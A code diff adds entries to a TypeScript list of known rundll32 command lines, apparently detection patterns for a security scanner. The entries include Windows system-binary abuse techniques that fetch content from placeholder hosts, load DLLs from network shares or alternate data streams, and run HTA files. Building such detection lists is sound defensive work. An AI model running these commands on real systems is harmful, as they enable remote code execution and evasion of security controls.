@@ -36,6 +36,10 @@ export const KNOWN_LINES: readonly string[] = [
   "rundll32 scrobj.dll,GenerateTypeLib http://h/x",
   "rundll32 dfshim.dll,ShOpenVerbApplication http://h/x",
   "rundll32 shimgvw.dll,ImageView_Fullscreen http://h/x",
+  "rundll32 mshtml.dll,PrintHTML C:\\Users\\Public\\x.hta",
+  "rundll32 davclnt.dll,DavSetCookie x.example http://x.example/x",
+  "rundll32 keymgr.dll,KRShowKeyMgr",
+  "rundll32 printui.dll,PrintUIEntry /in /n \\\\h\\x",
   "rundll32 \\\\h\\s\\x.dll,a",
   "rundll32 C:\\Users\\Public\\x.txt:x.dll,a",
 ];
